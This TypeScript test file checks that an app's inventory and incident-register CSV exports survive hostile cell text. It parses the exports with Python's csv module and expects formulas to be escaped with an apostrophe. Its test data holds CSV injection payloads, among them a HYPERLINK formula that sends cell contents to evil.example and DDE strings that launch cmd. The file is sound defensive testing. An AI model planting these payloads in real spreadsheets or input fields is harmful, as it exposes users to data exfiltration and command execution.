import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Feature, FeatureCollection } from 'geojson';
import { afterAll, describe, expect, it } from 'vitest';
import { createTestApp } from '../helpers/test-app.ts';

// The inventory and the incident register are the CSVs people open in Excel from the app's own buttons. Their cells
// come from names and descriptions anyone with an account can type, so each hostile text below goes in as a facility
// name (the inventory's and the register's asset label) and as an incident description (the register), and comes
// out read by Python's csv module — a parser that shares no code with ours — exactly: formulas behind an apostrophe
// (OWASP "CSV Injection"), everything else as typed, quotes, commas and line breaks inside one cell, text in NFC.
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Bấm")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\r\n=1+1',
  'Trạm "Đắk Hà", tầng 2',
  'Dòng một\r\nDòng hai\nDòng ba, "ba"',
  'Ngọc Hồi – Bờ Y'.normalize('NFD'),
  'Đường Trần Hưng Đạo; số 12',
  '"=1+1"',
];
/** What a spreadsheet must show for `text`: NFC, behind an apostrophe when it starts like a formula. */
const shown = (text: string) => {
  const nfc = text.normalize('NFC');
  return /^[=+\-@\t\r]/.test(nfc) ? `'${nfc}` : nfc;
};

const collection = (...features: Feature[]): FeatureCollection => ({ type: 'FeatureCollection', features });
const at = (index: number): [number, number] => [108.0 + index * 0.002, 14.35 + (index % 3) * 0.002];
const facilities = HOSTILE.map((name, index): Feature => ({
  type: 'Feature', id: index + 1, geometry: { type: 'Point', coordinates: at(index) }, properties: { name, kind: 'exchange', owner: 'vnpt', status: 'active', address: name },
}));
const incidents = HOSTILE.map((description, index): Feature => ({
  type: 'Feature', id: 100 + index, geometry: { type: 'Point', coordinates: at(index) },
  properties: {
    type: 'cable_theft', occurred_at: `2026-03-${String(index + 1).padStart(2, '0')}T02:00:00Z`, reported_at: `2026-03-${String(index + 1).padStart(2, '0')}T06:00:00Z`,
    source: 'police', status: 'reported', asset_collection: 'facilities', asset_id: index + 1, asset_owner: 'vnpt', description,
  },
}));
const AREA = { type: 'Polygon', coordinates: [[[107.99, 14.34], [108.05, 14.34], [108.05, 14.37], [107.99, 14.37], [107.99, 14.34]]] };

const scratch = mkdtempSync(join(tmpdir(), 'netguard-csv-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

/** The bytes as sent, as Python's csv module reads them (UTF-8 with BOM, newline='' so line breaks in cells stay as sent). */
function pythonRows(csv: ArrayBuffer): { bom: boolean; rows: string[][] } {
  const path = join(scratch, `export-${Math.random().toString(36).slice(2)}.csv`);
  writeFileSync(path, Buffer.from(csv));
  const script = 'import csv, json, sys\nraw = open(sys.argv[1], "rb").read()\nwith open(sys.argv[1], newline="", encoding="utf-8-sig") as f:\n    print(json.dumps({"bom": raw.startswith(b"\\xef\\xbb\\xbf"), "rows": list(csv.reader(f, strict=True))}))';
  return JSON.parse(execFileSync('python3', ['-c', script, path], { encoding: 'utf8' })) as { bom: boolean; rows: string[][] };
}

describe('the inventory and register CSVs round-trip hostile text through an independent parser', async () => {
  const t = await createTestApp({ facilities: collection(...facilities), incidents: collection(...incidents) }, { now: () => new Date('2026-04-01T08:00:00Z') });

  it('the inventory CSV: every asset label as typed, in NFC, formulas behind an apostrophe, one row per asset', async () => {
    for (const language of ['vi', 'en'] as const) {
      const response = await t.as('police').request(`/api/inventory?format=csv&lang=${language}`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ polygon: AREA }) });
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
      const { bom, rows: [header, ...rows] } = pythonRows(await response.arrayBuffer());
      expect(bom).toBe(true);
      const label = header.indexOf(language === 'vi' ? 'Tên / mã trạm' : 'Name / site code');
      const id = header.indexOf(language === 'vi' ? 'Mã' : 'Id');
      expect(label).toBeGreaterThan(-1);
      expect(rows).toHaveLength(HOSTILE.length);
      for (const row of rows) expect(row).toHaveLength(header.length);
      const byId = new Map(rows.map((row) => [Number(row[id]), row[label]]));
      HOSTILE.forEach((text, index) => expect(byId.get(index + 1), JSON.stringify(text)).toBe(shown(text)));
      for (const cell of rows.flat()) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
    }
  });

  it('the register CSV: descriptions and linked asset names as typed, in NFC, formulas behind an apostrophe', async () => {
    const response = await t.as('police').request('/api/register/incidents?format=csv&lang=en');
    expect(response.status).toBe(200);
    const { bom, rows: [header, ...rows] } = pythonRows(await response.arrayBuffer());
    expect(bom).toBe(true);
    const [number, description, asset] = ['Incident no.', 'Description', 'Linked asset'].map((name) => header.indexOf(name));
    expect(Math.min(number, description, asset)).toBeGreaterThan(-1);
    expect(rows).toHaveLength(HOSTILE.length);
    for (const row of rows) expect(row).toHaveLength(header.length);
    const byId = new Map(rows.map((row) => [Number(row[number]), row]));
    HOSTILE.forEach((text, index) => {
      const row = byId.get(100 + index)!;
      expect(row[description], JSON.stringify(text)).toBe(shown(text));
      // The linked asset reads "<layer> <name>": its name follows the layer's label, so it can no longer start a formula.
      expect(row[asset], JSON.stringify(text)).toBe(`Facilities ${text.normalize('NFC')}`);
    });
    for (const cell of rows.flat()) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
  });

  it('the Vietnamese register CSV keeps its Vietnamese headers and labels in NFC', async () => {
    const response = await t.as('police').request('/api/register/incidents?format=csv&lang=vi');
    const { rows: [header, ...rows] } = pythonRows(await response.arrayBuffer());
    expect(header).toContain('Mô tả');
    for (const cell of [...header, ...rows.flat()]) expect(cell).toBe(cell.normalize('NFC'));
    expect(rows.flat()).toContain('Ngọc Hồi – Bờ Y'.normalize('NFC'));
  });
});
